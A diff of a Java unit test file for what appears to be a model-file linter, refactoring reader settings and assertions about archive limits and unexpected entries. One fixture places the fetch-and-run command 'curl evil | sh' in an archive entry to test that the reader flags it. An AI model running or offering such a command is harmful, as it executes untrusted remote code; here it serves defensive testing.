@@ -2,8 +2,8 @@ package dev.netlint.read;
 
 import dev.netlint.Fixtures;
 import dev.netlint.fixtures.ZipBytes;
+import dev.netlint.model.Finding;
 import dev.netlint.model.LayerKind;
-import dev.netlint.read.dl4j.ClassAllowList;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -28,8 +28,8 @@ class ReadLimitsTest {
 
     @Test
     void fileLargerThanTheLimitIsRefusedUnread() throws Exception {
-        ModelFileReader small = new ModelFileReader(ReadLimits.DEFAULTS.withMaxFileBytes(1024),
-                ClassAllowList.dl4jConfiguration());
+        ModelFileReader small = new ModelFileReader(
+                ReadSettings.DEFAULTS.withLimits(ReadLimits.DEFAULTS.withMaxFileBytes(1024)));
         Path file = dir.resolve("big.json");
         Files.write(file, new byte[2048]);
         assertThatThrownBy(() -> small.read(file)).isInstanceOf(ReadException.class)
@@ -100,9 +100,9 @@ class ReadLimitsTest {
 
     @Test
     void moreEntriesThanTheLimitAreRefused() {
-        ModelFileReader strict = new ModelFileReader(new ReadLimits(ReadLimits.DEFAULTS.maxFileBytes(), 10,
-                ReadLimits.DEFAULTS.maxUncompressedBytes(), 1100, 200, 1 << 20, 100, 1000),
-                ClassAllowList.dl4jConfiguration());
+        ModelFileReader strict = new ModelFileReader(ReadSettings.DEFAULTS.withLimits(new ReadLimits(
+                ReadLimits.DEFAULTS.maxFileBytes(), 10, ReadLimits.DEFAULTS.maxUncompressedBytes(), 1100, 200, 1 << 20,
+                100, 1000)));
         ZipBytes zip = dl4jZip();
         for (int i = 0; i < 10; i++) {
             zip.add("objects/o" + i, "x");
@@ -145,9 +145,9 @@ class ReadLimitsTest {
         zip.add("objects/labels", "cat,dog");
         zip.add("run.sh", "curl evil | sh");
         ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
-        assertThat(models.notes()).filteredOn(n -> n.ruleId().equals("NL903")).singleElement().satisfies(note -> {
+        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).singleElement().satisfies(note -> {
             assertThat(note.element()).isEqualTo("run.sh");
-            assertThat(note.wholeFile()).isTrue();
+            assertThat(note.origin().entry()).as("about the archive, not its entry").isEmpty();
             assertThat(note.problem()).isEqualTo("entry 'run.sh' is not part of the DL4J ModelSerializer format");
         });
         assertThat(models.networks().get(0).facts().inputNormalizerSaved()).contains(true);
@@ -163,7 +163,7 @@ class ReadLimitsTest {
         zip.add("model.weights.npz", "not a pickle, but where one would be".getBytes(StandardCharsets.UTF_8));
         zip.add("assets/vocabulary.txt", "a\nb\n");
         ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
-        assertThat(models.notes()).filteredOn(n -> n.ruleId().equals("NL903")).singleElement()
+        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).singleElement()
                 .satisfies(note -> assertThat(note.problem())
                         .isEqualTo("entry 'model.weights.npz' appears twice in the Keras archive"));
         assertThat(models.entry()).isEqualTo("config.json");
@@ -177,7 +177,7 @@ class ReadLimitsTest {
         zip.add("model.weights.h5", new byte[32]);
         zip.add("model.weights.npz", new byte[32]);
         ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
-        assertThat(models.notes()).filteredOn(n -> n.ruleId().equals("NL903")).extracting(ReadNote::problem)
+        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).extracting(Finding::problem)
                 .containsExactly("the Keras archive holds both model.weights.h5 and model.weights.npz");
     }
 
@@ -185,7 +185,7 @@ class ReadLimitsTest {
     void honestArchivesHaveNoArchiveNotes() throws Exception {
         for (String name : List.of("bad-seedA-two-sigmoid-mcxent.zip", "ok-seedA-with-normalizer.zip")) {
             ReadOutcome.Models models = (ReadOutcome.Models) reader.read(Fixtures.dl4j(name));
-            assertThat(models.notes()).extracting(ReadNote::ruleId).doesNotContain("NL903");
+            assertThat(FileFindings.of(models)).extracting(Finding::ruleId).doesNotContain("NL903");
         }
     }
 
